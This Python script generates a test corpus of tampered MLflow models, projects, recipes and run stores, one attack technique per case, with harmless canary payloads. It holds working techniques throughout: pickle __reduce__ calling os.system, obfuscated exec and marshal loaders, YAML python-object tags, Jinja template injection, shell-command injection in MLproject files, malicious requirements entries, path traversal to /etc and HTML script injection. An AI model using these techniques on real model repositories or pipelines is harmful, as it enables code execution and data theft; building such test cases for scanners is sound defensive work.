"""Hostile MLflow models, projects, recipes and stores: one technique each, harmless payloads.

    malicious.py OUT    run by the Python of the venv mlflow3; models.py does so and then loads each with the real frameworks

Every case is a folder that begins as a real save and is then changed where an attacker would change it. What it runs writes the file
"canary" into the current folder, prints a poem, connects to a closed port of this machine or opens a file outside of the model.
"""
import base64
import io
import json
import marshal
import os
import pickle
import py_compile
import re
import shutil
import sys
import zipfile

os.environ.setdefault("MLFLOW_ENABLE_ARTIFACTS_PROGRESS_BAR", "false")
os.environ.setdefault("MLFLOW_ALLOW_FILE_STORE", "true")
import mlflow
import numpy as np

from pack import pack

CASES = []
SYSTEM = "echo fired > canary"


def case(name, how="pyfunc", technique="", sign="canary", outside=None):
    """how: what loads it (models.py, HOWS); sign: what shows that it acted; outside: files that lie beside the model when it is loaded."""
    def register(f):
        CASES.append((name, how, technique or (f.__doc__ or "").strip(), sign, outside or {}, f))
        return f
    return register


def write(path, text):
    os.makedirs(os.path.dirname(path) or ".", exist_ok=True)
    with open(path, "wb" if isinstance(text, bytes) else "w") as f:
        f.write(text)


def base():
    from sklearn.linear_model import LogisticRegression
    mlflow.sklearn.save_model(LogisticRegression().fit(np.arange(8.0).reshape(4, 2), [0, 1, 0, 1]), "m", serialization_format="cloudpickle",
                              pip_requirements=["mlflow", "scikit-learn"])


def edit(path, *pairs):
    with open(path) as f:
        s = f.read()
    for old, new in pairs:
        if not re.search(old, s):
            raise SystemExit("malicious.py: %s has no %r" % (path, old))
        s = re.sub(old, new.replace("\\", "\\\\"), s, count=1)
    write(path, s)


def loader(module, code="code"):
    """A model that is loaded by a module of its code folder."""
    base()
    edit("m/MLmodel", ("loader_module: mlflow.sklearn", "loader_module: %s\n    code: %s" % (module, code)))


MODEL = "class Model:\n    def predict(self, data, params=None):\n        return data\n\n\n"


def simple(name, technique, files, module="evil", code="code", how="pyfunc", sign="canary", outside=None):
    def make():
        loader(module, code)
        for path, text in files.items():
            write("m/" + path, text)
    CASES.append((name, how, technique, sign, outside or {}, make))


LOAD = "def _load_pyfunc(path):\n    return Model()\n"
simple("loader-at-import", "the loader module starts a process when it is imported", {"code/evil.py": "import os\nos.system('%s')\n%s%s" % (SYSTEM, MODEL, LOAD)})
simple("loader-in-function", "the loader function starts a process", {"code/evil.py": "import os\n%sdef _load_pyfunc(path):\n    os.system('%s')\n    return Model()\n" % (MODEL, SYSTEM)})
simple("loader-package", "a package's __init__ starts a process", {"code/evil/__init__.py": "import subprocess\nsubprocess.run('%s', shell=True)\n%s%s" % (SYSTEM, MODEL, LOAD)})
simple("loader-namespace", "the loader lies deep in folders without __init__", {"code/a/b/evil.py": "from os import popen as p\np('%s').read()\n%s%s" % (SYSTEM, MODEL, LOAD)}, module="a.b.evil")
simple("loader-helper", "a helper of the loader starts the process", {
    "code/evil.py": "from tools import prepare\n%sdef _load_pyfunc(path):\n    prepare()\n    return Model()\n" % MODEL,
    "code/tools.py": "import subprocess\n\n\ndef prepare():\n    subprocess.check_call(['sh', '-c', '%s'])\n" % SYSTEM})
simple("loader-exec-base64", "encoded source is executed", {"code/evil.py": "import base64\nexec(base64.b64decode('%s'))\n%s%s" % (
    base64.b64encode(b"import os; os.system('%s')" % SYSTEM.encode()).decode(), MODEL, LOAD)})
simple("loader-split-names", "names are put together from parts", {"code/evil.py": "getattr(__import__('o' + 's'), 'sys' + 'tem')('%s')\n%s%s" % (SYSTEM, MODEL, LOAD)})
simple("loader-escaped-names", "names are spelled with escapes", {"code/evil.py": "__import__('\\x6f\\x73').popen('%s').read()\n%s%s" % (SYSTEM, MODEL, LOAD)})
simple("loader-chr", "a module's name is computed", {"code/evil.py": "m = __import__(chr(111) + chr(115))\nm.system('%s')\n%s%s" % (SYSTEM, MODEL, LOAD)})
simple("loader-ctypes", "libc is called through ctypes", {"code/evil.py": "import ctypes\nctypes.CDLL(None).system(b'%s')\n%s%s" % (SYSTEM, MODEL, LOAD)})
simple("loader-pty", "a shell is spawned on a terminal", {"code/evil.py": "import pty\npty.spawn(['sh', '-c', '%s'])\n%s%s" % (SYSTEM, MODEL, LOAD)})
simple("loader-marshal", "compiled code is loaded from a text", {"code/evil.py": "import marshal\nexec(marshal.loads(%r))\n%s%s" % (
    marshal.dumps(compile("import os; os.system('%s')" % SYSTEM, "x", "exec")), MODEL, LOAD)}, how="pyfunc:3")
simple("loader-metaclass", "a class that is made starts a process", {"code/evil.py": "import os\n\n\nclass Base:\n    def __init_subclass__(cls):\n        os.system('%s')\n\n\nclass Model(Base):\n    def predict(self, data, params=None):\n        return data\n\n\n%s" % (SYSTEM, LOAD)})
simple("loader-in-init", "the model's constructor starts a process", {"code/evil.py": "import os\n\n\nclass Model:\n    def __init__(self):\n        os.spawnlp(os.P_WAIT, 'sh', 'sh', '-c', '%s')\n\n    def predict(self, data, params=None):\n        return data\n\n\n%s" % (SYSTEM, LOAD)})
simple("loader-in-predict", "the first prediction starts a process", {"code/evil.py": "import subprocess\n\n\nclass Model:\n    def predict(self, data, params=None):\n        subprocess.run(['sh', '-c', '%s'])\n        return data\n\n\n%s" % (SYSTEM, LOAD)}, how="predict")
simple("loader-network", "loading asks a server", {"code/evil.py": "import os\nimport urllib.request\n%sdef _load_pyfunc(path):\n    try:\n        urllib.request.urlopen('http://127.0.0.1:9/' + os.environ.get('USER', ''))\n    except OSError:\n        pass\n    return Model()\n" % MODEL}, sign="connect")
simple("loader-socket", "loading opens a shell's connection", {"code/evil.py": "import socket\ns = socket.socket()\ns.connect_ex(('127.0.0.1', 9))\n%s%s" % (MODEL, LOAD)}, sign="connect")
simple("loader-startup-file", "loading writes a file of the user's shell", {"code/evil.py": "import os\nwith open(os.path.expanduser('~/canary'), 'a') as f:\n    f.write('fired')\n%s%s" % (MODEL, LOAD)})
simple("code-in-root", "the model's folder itself is the code folder", {"evil.py": "import os\nos.system('%s')\n%s%s" % (SYSTEM, MODEL, LOAD)}, code=".")
simple("code-in-data", "the code folder has another name", {"data/lib/evil.py": "import os\nos.system('%s')\n%s%s" % (SYSTEM, MODEL, LOAD)}, code="data/lib")
simple("code-outside", "the code folder lies outside the model", {}, code="../outside", outside={"outside/evil.py": "import os\nos.system('%s')\n%s%s" % (SYSTEM, MODEL, LOAD)})
simple("loader-foreign", "the loader is a package that the model does not bring", {}, module="acme_loader", code="null",
       outside={"site/acme_loader.py": "import os\nos.system('%s')\n%s%s" % (SYSTEM, MODEL, LOAD)})
simple("loader-of-python", "the loader is a module of Python itself", {}, module="this", code="null", sign="poem")


@case("loader-compiled", how="pyfunc:3")
def loader_compiled():
    """the loader exists as bytecode only"""
    loader("evil")
    write("evil.py", "import os\nos.system('%s')\n%s%s" % (SYSTEM, MODEL, LOAD))
    os.makedirs("m/code")
    py_compile.compile("evil.py", "m/code/evil.pyc", "evil.py", invalidation_mode=py_compile.PycInvalidationMode.UNCHECKED_HASH)


@case("code-zip")
def code_zip():
    """the code folder is a zip file, from which Python imports too"""
    loader("evil", "code/lib.zip")
    os.makedirs("m/code")
    with zipfile.ZipFile("m/code/lib.zip", "w") as z:
        z.writestr(zipfile.ZipInfo("evil.py", (2026, 1, 1, 0, 0, 0)), "import os\nos.system('%s')\n%s%s" % (SYSTEM, MODEL, LOAD))


@case("shadow-sklearn")
def shadow_sklearn():
    """the code folder holds a module named sklearn"""
    base()
    edit("m/MLmodel", ("loader_module: mlflow.sklearn", "loader_module: mlflow.sklearn\n    code: code"))
    write("m/code/sklearn/__init__.py", "import os\nos.system('%s')\n" % SYSTEM)


@case("shadow-xgboost")
def shadow_xgboost():
    """the code folder holds a module named xgboost"""
    base()
    write("m/MLmodel", "flavors:\n  python_function:\n    code: code\n    data: model.xgb\n    loader_module: mlflow.xgboost\n  xgboost:\n    code: code\n    data: model.xgb\n"
          "    model_class: xgboost.core.Booster\n    xgb_version: 3.2.0\nmlflow_version: 3.17.2\n")
    write("m/model.xgb", "{}")
    write("m/code/xgboost.py", "import os\nos.system('%s')\n" % SYSTEM)


@case("shadow-by-flavour", how="xgboost")
def shadow_by_flavour():
    """the code folder stands in the flavour alone, which mlflow.xgboost.load_model reads"""
    shadow_xgboost()
    edit("m/MLmodel", ("    code: code\n    data: model.xgb\n    loader", "    data: model.xgb\n    loader"))


def from_code(name, technique, body, how="pyfunc", sign="canary"):
    def make():
        write("agent.py", "import mlflow\nfrom mlflow.pyfunc import PythonModel\n\n\nclass Agent(PythonModel):\n    def predict(self, context, model_input, params=None):\n        return model_input\n\n\nmlflow.models.set_model(Agent())\n")
        mlflow.pyfunc.save_model("m", python_model="agent.py", pip_requirements=["mlflow"])
        write("m/agent.py", body)
    CASES.append((name, how, technique, sign, {}, make))


AGENT = "import mlflow\nfrom mlflow.pyfunc import PythonModel\nimport os\n\n\nclass Agent(PythonModel):\n%s\n\nmlflow.models.set_model(Agent())\n"
PREDICT = "    def predict(self, context, model_input, params=None):\n        return model_input\n"
from_code("script-at-top", "the script of a models-from-code model starts a process", AGENT % PREDICT + "os.system('%s')\n" % SYSTEM)
from_code("script-load-context", "load_context starts a process", AGENT % ("    def load_context(self, context):\n        os.system('%s')\n\n%s" % (SYSTEM, PREDICT)))
from_code("script-predict", "predict starts a process", AGENT % ("    def predict(self, context, model_input, params=None):\n        os.popen('%s').read()\n        return model_input\n" % SYSTEM), how="predict")
from_code("script-eval", "predict evaluates what stands in it", AGENT % ("    def predict(self, context, model_input, params=None):\n        eval(\"os.system('%s')\")\n        return model_input\n" % SYSTEM), how="predict")
from_code("script-class-body", "a class body starts a process", AGENT % ("    os.system('%s')\n\n%s" % (SYSTEM, PREDICT)))


@case("langchain-script")
def langchain_script():
    """the script of a langchain model starts a process"""
    write("chain.py", "import mlflow\nfrom langchain_core.runnables import RunnableLambda\n\nmlflow.models.set_model(RunnableLambda(lambda x: x))\n")
    mlflow.langchain.save_model("chain.py", "m", pip_requirements=["mlflow", "langchain"])
    write("m/chain.py", "import mlflow\nimport os\nfrom langchain_core.runnables import RunnableLambda\n\nos.system('%s')\nmlflow.models.set_model(RunnableLambda(lambda x: x))\n" % SYSTEM)


class Evil:
    def __reduce__(self):
        return os.system, (SYSTEM,)


EVIL = pickle.dumps(Evil())


@case("pickle-sklearn")
def pickle_sklearn():
    """the pickled scikit-learn model starts a process"""
    base()
    write("m/model.pkl", EVIL)


@case("pickle-python-model")
def pickle_python_model():
    """python_model.pkl starts a process"""
    class Plain(mlflow.pyfunc.PythonModel):
        def predict(self, context, model_input, params=None):
            return model_input
    mlflow.pyfunc.save_model("m", python_model=Plain(), pip_requirements=["mlflow"])
    write("m/python_model.pkl", EVIL)


@case("pickle-compressed")
def pickle_compressed():
    """python_model.pkl is compressed, as MLflow can save it"""
    pickle_python_model()
    edit("m/MLmodel", ("python_model: python_model.pkl", "python_model: python_model.pkl\n    python_model_compression: gzip"))
    import gzip
    write("m/python_model.pkl", gzip.compress(EVIL, mtime=0))


def flavour(name, technique, text, files, how="pyfunc", sign="canary", outside=None):
    def make():
        base()
        os.remove("m/model.pkl")
        write("m/MLmodel", text + "mlflow_version: 3.17.2\n")
        for path, content in files.items():
            write("m/" + path, content)
    CASES.append((name, how, technique, sign, outside or {}, make))


PY = "flavors:\n  python_function:\n    data: %s\n    env:\n      conda: conda.yaml\n    loader_module: mlflow.%s\n"
flavour("pickle-statsmodels", "the pickle of a statsmodels model starts a process", PY % ("model.statsmodels", "statsmodels") + "  statsmodels:\n    code: null\n    data: model.statsmodels\n", {"model.statsmodels": EVIL})
flavour("pickle-pmdarima", "the pickle of a pmdarima model starts a process", PY % ("model.pmd", "pmdarima") + "  pmdarima:\n    code: null\n    data: model.pmd\n", {"model.pmd": EVIL})
flavour("pickle-lightgbm", "model_class turns a LightGBM model into a pickle", PY % ("model.pkl", "lightgbm") + "  lightgbm:\n    code: null\n    data: model.pkl\n    model_class: lightgbm.sklearn.LGBMClassifier\n    serialization_format: cloudpickle\n", {"model.pkl": EVIL})
flavour("pickle-keras-objects", "the custom objects of a Keras model start a process", PY % ("data", "tensorflow") + "  tensorflow:\n    code: null\n    data: data\n    keras_module: tensorflow.keras\n    model_type: keras\n    save_format: tf\n",
        {"data/custom_objects.cloudpickle": EVIL, "data/keras_module.txt": "tensorflow.keras", "data/save_format.txt": "tf"})
flavour("pickle-langchain-loader", "the loader function of a langchain model starts a process", (PY % ("model.yaml", "langchain")).replace("    data: model.yaml\n", "") + "  langchain:\n    code: null\n    model_data: model.yaml\n    model_type: _RetrieverChain\n    loader_arg: retriever\n    loader_fn: loader_fn.pkl\n    model_load: base_load\n    langchain_version: 0.3.0\n",
        {"model.yaml": "_type: x\n", "loader_fn.pkl": EVIL}, how="pyfunc:2")
flavour("class-xgboost", "model_class names a module that acts when it is imported", PY % ("model.xgb", "xgboost") + "  xgboost:\n    code: null\n    data: model.xgb\n    model_class: this.d\n", {"model.xgb": "{}"}, sign="poem")
flavour("class-keras-module", "keras_module names a module that acts when it is imported", PY % ("data", "tensorflow") + "  tensorflow:\n    code: null\n    data: data\n    keras_module: this\n    model_type: keras\n    save_format: tf\n", {"data/save_format.txt": "tf"}, how="tensorflow", sign="poem")
flavour("class-keras-file", "keras_module.txt names a module that acts when it is imported", PY % ("data", "tensorflow") + "  tensorflow:\n    code: null\n    data: data\n    model_type: keras\n", {"data/keras_module.txt": "this", "data/save_format.txt": "tf"}, sign="poem")
flavour("class-pickle-module", "pickle_module_info.txt names a module that acts when it is imported", PY % ("data", "pytorch") + "  pytorch:\n    code: null\n    model_data: data\n    pytorch_version: 2.0.0\n", {"data/pickle_module_info.txt": "this", "data/model.pth": b"x"}, how="pyfunc:torch", sign="poem")
flavour("class-llama-index", "a constructor of LlamaIndex settings names a module that acts when it is imported", (PY % ("index", "llama_index")).replace("    data: index\n", "") + "  llama_index:\n    code: null\n    engine_type: query\n    llama_index_version: 0.14.0\n",
        {"settings.json": json.dumps({"llm": {"object_constructor": "this.d", "object_kwargs": {}}}), "index/docstore.json": "{}"}, how="pyfunc:3", sign="poem")
flavour("path-pickle", "the pickle lies outside the model's folder", PY.replace("data:", "model_path:") % ("../outside/model.pkl", "sklearn") + "  sklearn:\n    code: null\n    pickled_model: ../outside/model.pkl\n    serialization_format: cloudpickle\n", {}, outside={"outside/model.pkl": EVIL})
flavour("path-pickle-flavour", "the flavour's own path leaves the folder", PY.replace("data:", "model_path:") % ("model.pkl", "sklearn") + "  sklearn:\n    code: null\n    pickled_model: x/../../outside/model.pkl\n    serialization_format: cloudpickle\n", {"x/y": "z"}, how="sklearn", outside={"outside/model.pkl": EVIL})
flavour("path-python-model", "python_model lies outside the model's folder", "flavors:\n  python_function:\n    cloudpickle_version: 3.1.2\n    loader_module: mlflow.pyfunc.model\n    python_model: ../outside/model.pkl\n", {}, outside={"outside/model.pkl": EVIL})
flavour("path-artifact", "an artifact of a Python model is a file outside", "flavors:\n  python_function:\n    artifacts:\n      words:\n        path: ../outside/secret.json\n        uri: /build/words.json\n    loader_module: mlflow.pyfunc.loaders.code_model\n    model_code_path: /build/agent.py\n",
        {"agent.py": AGENT % ("    def load_context(self, context):\n        with open(context.artifacts['words']) as f:\n            self.words = f.read()\n\n" + PREDICT)}, sign="outside", outside={"outside/secret.json": "{}"})
flavour("path-statsmodels", "the pickle of a statsmodels model lies outside", PY % ("../outside/model.pkl", "statsmodels") + "  statsmodels:\n    data: ../outside/model.pkl\n", {}, outside={"outside/model.pkl": EVIL})
flavour("path-input-example", "the input example is a file outside", PY.replace("data:", "model_path:") % ("model.pkl", "sklearn") + "  sklearn:\n    code: null\n    pickled_model: model.pkl\n    serialization_format: pickle\nsaved_input_example_info:\n  artifact_path: ../outside/secret.json\n  type: json_object\n",
        {"model.pkl": pickle.dumps(["a list"])}, sign="outside", outside={"outside/secret.json": "{}"})


@case("trusted-distribution", how="pyfunc:3")
def trusted_distribution():
    """skops_trusted_types lets a class through whose state is executed"""
    import scipy.stats
    import skops.io
    dist = scipy.stats._continuous_distns.norm_gen(name="norm")
    dist._parse_arg_template = "import os; os.system('%s')\n" % SYSTEM
    base()
    os.remove("m/model.pkl")
    data = skops.io.dumps(dist)
    with zipfile.ZipFile(io.BytesIO(data)) as z:
        members = {i.filename: z.read(i) for i in z.infolist()}
    schema = json.loads(members["schema.json"])
    # scipy leaves the template out of the state that it gives away; whoever writes the file does not
    content = schema["content"]
    keys = content["content"]
    keys["_parse_arg_template"] = {"__class__": "str", "__module__": "builtins", "__loader__": "JsonNode", "content": json.dumps(dist._parse_arg_template), "is_json": True}
    members["schema.json"] = json.dumps(schema)
    with zipfile.ZipFile("m/model.skops", "w") as z:
        for n, b in members.items():
            z.writestr(zipfile.ZipInfo(n, (2026, 1, 1, 0, 0, 0)), b)
    types = skops.io.get_untrusted_types(file="m/model.skops")
    edit("m/MLmodel", ("    skops_trusted_types: .*\\n", ""), ("model_path: model.pkl", "model_path: model.skops"), ("pickled_model: model.pkl", "pickled_model: model.skops"),
         ("serialization_format: cloudpickle", "serialization_format: skops\n    skops_trusted_types:\n" + "\n".join("    - " + t for t in types)))


@case("trusted-function", how="transform:3")
def trusted_function():
    """skops_trusted_types lets a function of Python through that the model calls"""
    import skops.io
    from sklearn.pipeline import make_pipeline
    from sklearn.preprocessing import FunctionTransformer
    model = make_pipeline(FunctionTransformer(os.system))
    base()
    os.remove("m/model.pkl")
    skops.io.dump(model, "m/model.skops")
    types = skops.io.get_untrusted_types(file="m/model.skops")
    edit("m/MLmodel", ("    skops_trusted_types: .*\\n", ""), ("model_path: model.pkl", "model_path: model.skops"), ("pickled_model: model.pkl", "pickled_model: model.skops"),
         ("serialization_format: cloudpickle", "serialization_format: skops\n    skops_trusted_types:\n" + "\n".join("    - " + t for t in types)))


def onnx(options):
    from onnx import TensorProto, helper
    graph = helper.make_graph([helper.make_node("Add", ["x", "x"], ["y"])], "g", [helper.make_tensor_value_info("x", TensorProto.FLOAT, [None, 2])],
                              [helper.make_tensor_value_info("y", TensorProto.FLOAT, [None, 2])])
    model = helper.make_model(graph, opset_imports=[helper.make_opsetid("", 13)], ir_version=9)
    mlflow.onnx.save_model(model, "m", pip_requirements=["mlflow", "onnx", "onnxruntime"], onnx_session_options=options)


@case("onnx-writes-file", sign="canary*")
def onnx_writes_file():
    """an option makes ONNX Runtime write a file where the model says"""
    onnx({"extra_session_config": {"session.node_partition_config_file": "canary"}})


def h2o(name, technique, init, sign="canary", outside=None):
    def make():
        base()
        os.remove("m/model.pkl")
        write("m/MLmodel", PY % ("model.h2o", "h2o") + "  h2o:\n    code: null\n    data: model.h2o\n    h2o_version: 3.46.0.11\nmlflow_version: 3.17.2\n")
        write("m/model.h2o/h2o.yaml", "full_file: /build/m/model.h2o/glm\nmodel_dir: /build/m/model.h2o\nmodel_file: glm\ninit:\n" + init)
        write("m/model.h2o/glm", b"")
    CASES.append((name, "h2o", technique, sign, outside or {}, make))


h2o("h2o-oom-command", "Java is told which command to run when its memory ends", "  max_mem_size: 1g\n  jvm_custom_args:\n  - -XX:MaxMetaspaceSize=10m\n  - -XX:OnOutOfMemoryError=echo fired > canary\n")
h2o("h2o-agent", "Java is told to load an agent", "  max_mem_size: 1g\n  jvm_custom_args: ['-javaagent:agent.jar']\n", outside={"agent.jar": "AGENT"})
h2o("h2o-classpath", "a class of the model's choice comes first on Java's path", "  max_mem_size: 1g\n  extra_classpath: [site.jar]\n", outside={"site.jar": "SITE"})
h2o("h2o-log-dir", "H2O writes where the model says", "  max_mem_size: 1g\n  log_dir: canary\n", sign="canary")
h2o("h2o-url", "loading talks to a server that the model names", "  url: http://127.1.2.3:9\n", sign="connect")


@case("yaml-tag", how="unsafe-yaml")
def yaml_tag():
    """MLmodel holds a tag that full loaders run"""
    base()
    edit("m/MLmodel", ("mlflow_version:", "metadata: !!python/object/apply:os.system ['%s']\nmlflow_version:" % SYSTEM))


@case("yaml-tag-handle", how="unsafe-yaml")
def yaml_tag_handle():
    """the tag hides behind a handle of its own"""
    base()
    with open("m/MLmodel") as f:
        text = f.read()
    write("m/MLmodel", "%%TAG !x! tag:yaml.org,2002:python/object/\n---\nmetadata: !x!apply:os.system ['%s']\n%s" % (SYSTEM, text))


@case("yaml-tag-environment", how="unsafe-yaml:conda.yaml")
def yaml_tag_environment():
    """conda.yaml holds a tag that full loaders run"""
    base()
    edit("m/conda.yaml", ("name: mlflow-env", "name: !!python/object/apply:os.system ['%s']" % SYSTEM))


def evil_code():
    write("m/code/evil.py", "import os\nos.system('%s')\n%s%s" % (SYSTEM, MODEL, LOAD))


@case("yaml-duplicate-key")
def yaml_duplicate_key():
    """the loader stands twice, the harmless one first"""
    base()
    edit("m/MLmodel", ("loader_module: mlflow.sklearn", "loader_module: mlflow.sklearn\n    code: code\n    loader_module: evil"))
    evil_code()


@case("yaml-duplicate-flavor")
def yaml_duplicate_flavor():
    """the flavours stand twice"""
    base()
    with open("m/MLmodel") as f:
        text = f.read()
    write("m/MLmodel", text + "flavors:\n  python_function: {loader_module: evil, code: code}\n")
    evil_code()


@case("yaml-merge")
def yaml_merge():
    """the loader comes from a merged mapping elsewhere"""
    base()
    edit("m/MLmodel", ("    loader_module: mlflow.sklearn\n", "    <<: *more\n"))
    with open("m/MLmodel") as f:
        text = f.read()
    write("m/MLmodel", "metadata: &more\n  loader_module: evil\n  code: code\n" + text)
    evil_code()


@case("yaml-escapes")
def yaml_escapes():
    """keys and values are JSON with escapes"""
    base()
    write("m/MLmodel", '{"\\u0066lavors": {"python\\x5ffunction": {"loader\\u005fmodule": "\\u0065vil", "cod\\x65": "code"}}, "mlflow_version": "3.17.2"}\n')
    evil_code()


SETUP = "import os\nfrom setuptools import setup\n\nopen(os.environ['WEIR_CANARY'], 'w').close()\nsetup(name='evil', version='1')\n"


@case("requirements-outside", how="pip", outside={"outside/setup.py": SETUP})
def requirements_outside():
    """requirements.txt installs a package from outside the model"""
    base()
    write("m/requirements.txt", "mlflow\n../outside\n")


@case("requirements-editable", how="pip", outside={"outside/setup.py": SETUP})
def requirements_editable():
    """requirements.txt installs a folder in place"""
    base()
    write("m/requirements.txt", "-e ../outside\n")


@case("requirements-http-index", how="pip", sign="connect")
def requirements_http_index():
    """requirements.txt asks an index without encryption"""
    base()
    write("m/requirements.txt", "--index-url http://127.0.0.1:9/simple\nacme-loader==1.0\n")


@case("requirements-find-links", how="pip", outside={"outside/acme_loader-1.0.zip": "SDIST"})
def requirements_find_links():
    """requirements.txt takes packages from a folder outside"""
    base()
    write("m/requirements.txt", "--no-index\n--find-links ../outside\nacme-loader==1.0\n")


@case("requirements-url", how="pip", sign="connect")
def requirements_url():
    """requirements.txt installs an address"""
    base()
    write("m/requirements.txt", "acme-loader @ http://127.0.0.1:9/acme_loader-1.0.zip\n")


def recipe(name, technique, files, how="recipe", sign="canary"):
    def make():
        write("m/recipe.yaml", "recipe: \"regression/v1\"\ntarget_col: \"fare\"\nprimary_metric: \"rmse\"\nsteps:\n  ingest: {{INGEST_CONFIG}}\n")
        write("m/profiles/local.yaml", "experiment:\n  name: taxi\nINGEST_CONFIG:\n  using: parquet\n  location: ./data/sample.parquet\n")
        for path, text in files.items():
            write("m/" + path, text)
    CASES.append((name, how, technique, sign, {}, make))


SSTI = "{{ cycler.__init__.__globals__.os.popen('%s').read() }}" % SYSTEM
recipe("recipe-template", "recipe.yaml's template starts a process", {"recipe.yaml": "recipe: \"regression/v1\"\ntarget_col: \"%s\"\n" % SSTI})
recipe("recipe-profile", "a profile's template starts a process", {"profiles/local.yaml": "experiment:\n  name: x\nINGEST_CONFIG: \"%s\"\n" % SSTI})
recipe("recipe-class-chain", "the template climbs from a text to a class that starts a process", {"recipe.yaml":
       "recipe: \"regression/v1\"\n{%% for c in ''.__class__.__mro__[1].__subclasses__() %%}{%% if c.__name__ == 'Popen' %%}\ntarget_col: \"{{ c('%s', shell=True).wait() }}\"\n{%% endif %%}{%% endfor %%}\n" % SYSTEM})
recipe("recipe-attr-filter", "the template spells attributes as texts", {"recipe.yaml":
       "recipe: \"regression/v1\"\ntarget_col: \"{{ (cycler|attr('__init__')|attr('__globals__'))['os'].popen('%s').read() }}\"\n" % SYSTEM})
recipe("recipe-script", "a value of the recipe is script that its card shows", {"recipe.yaml":
       "recipe: \"regression/v1\"\ntarget_col: \"<img src=x onerror=document.title='fired'>\"\n"}, how="recipe-card", sign="title")


@case("card-script", how="browser", sign="title")
def card_script():
    """a step card holds script that is not MLflow's"""
    import models
    write("m/card.html", models.card())


@case("artifact-page", how="browser", sign="title")
def artifact_page():
    """a page among a run's artifacts runs script by a handler"""
    write("m/mlruns/0/%s/artifacts/report.html" % ("a" * 32), "<!DOCTYPE html><html><body><img src=x onerror=\"document.title='fired'\"></body></html>")


@case("model-page", how="browser", sign="title")
def model_page():
    """a page in the model's folder runs script by an address"""
    base()
    write("m/extra_files/report.html", "<!DOCTYPE html><html><body><iframe src=\"javascript:parent.document.title='fired'\"></iframe></body></html>")


@case("step-page", how="browser", sign="title")
def step_page():
    """a page that a recipe's step left behind runs script"""
    write("m/recipe.yaml", "recipe: \"regression/v1\"\n")
    write("m/steps/ingest/outputs/card.html", "<!DOCTYPE html><html><body><script>document.title='fired'</script></body></html>")


def store(name, technique, location, sign="outside"):
    def make():
        write("m/mlruns/0/meta.yaml", "artifact_location: file:///build/mlruns/0\ncreation_time: 1\nexperiment_id: '0'\nlast_update_time: 1\nlifecycle_stage: active\nname: Default\n")
        run = "a" * 32
        write("m/mlruns/0/%s/meta.yaml" % run, "artifact_uri: %s\nend_time: 2\nentry_point_name: ''\nexperiment_id: '0'\nlifecycle_stage: active\nrun_id: %s\nrun_name: r\nrun_uuid: %s\n"
              "source_name: ''\nsource_type: 4\nsource_version: ''\nstart_time: 1\nstatus: 3\ntags: []\nuser_id: u\n" % (location, run, run))
        for name, text in (("metrics/loss", "1 0.5 0\n"), ("params/alpha", "1"), ("tags/mlflow.user", "u")):
            write("m/mlruns/0/%s/%s" % (run, name), text)
    CASES.append((name, "store", technique, sign, {}, make))


store("store-system-folder", "a run's artifacts are a folder of the system", "file:///etc", sign="etc")
store("store-localhost", "the same with a host in the address", "file://localhost/etc", sign="etc")
store("store-climbs", "a run's artifacts climb out of the store", "m/mlruns/0/../../../../../../../../../../../../etc", sign="etc")


def project(name, technique, text, sign="canary", outside=None):
    def make():
        write("m/MLproject", text)
        write("m/train.py", "print('trained')\n")
    CASES.append((name, "project", technique, sign, outside or {}, make))


project("project-chain", "the command goes on after the program", "name: p\nentry_points:\n  main:\n    command: \"python train.py; %s\"\n" % SYSTEM)
project("project-substitution", "the command runs another to make an argument", "name: p\nentry_points:\n  main:\n    command: \"python train.py --x $(%s)\"\n" % SYSTEM)
project("project-decoded", "the command decodes what it runs", "name: p\nentry_points:\n  main:\n    command: \"echo %s | base64 -d | sh\"\n" % base64.b64encode(SYSTEM.encode()).decode())
project("project-inline-python", "the command is a program in itself", "name: p\nentry_points:\n  main:\n    command: \"python -c \\\"open('canary','w')\\\"\"\n")
project("project-quoted-parameter", "quotes around a parameter undo MLflow's own", "name: p\nentry_points:\n  main:\n    parameters:\n      name: {type: string, default: 'x; echo fired > canary; '}\n    command: \"python train.py '{name}'\"\n")


def main():
    out = os.path.abspath(sys.argv[1])
    only = sys.argv[2:]
    os.makedirs(out, exist_ok=True)
    lines = []
    for name, how, technique, sign, outside, make in CASES:
        lines.append({"name": name, "how": how, "technique": technique, "sign": sign, "outside": {k: v.decode("latin-1") if isinstance(v, bytes) else v for k, v in outside.items()}})
        if only and name not in only:
            continue
        work = "/tmp/models-of-mlflow"
        shutil.rmtree(work, ignore_errors=True)
        os.mkdir(work)
        os.chdir(work)
        try:
            make()
            pack("m", os.path.join(out, name + ".zip"))
        finally:
            os.chdir("/")
            shutil.rmtree(work, ignore_errors=True)
    print(json.dumps(lines))


if __name__ == "__main__":
    main()
